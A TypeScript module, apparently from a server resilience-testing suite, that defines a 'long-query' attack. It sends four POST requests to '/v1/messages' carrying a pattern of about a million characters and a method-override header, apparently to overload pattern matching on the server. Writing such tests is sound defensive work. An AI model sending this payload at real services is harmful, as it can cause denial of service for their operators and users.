import type { Attack } from '../attack.ts'
import { repeat, send } from '../requests.ts'

const body = JSON.stringify({ body_like: `${'*a'.repeat(500_000)}*zzz` })

/** A long query with a pattern of a million characters. */
export const longQuery: Attack = {
  name: 'long-query',
  title: 'long query of 1 MB in a body',
  run: (target, signal, note) =>
    repeat(4, signal, () =>
      send(
        target,
        {
          method: 'POST',
          path: '/v1/messages',
          headers: { 'x-http-method-override': 'GET' },
          body,
        },
        signal,
        note,
      ),
    ),
}
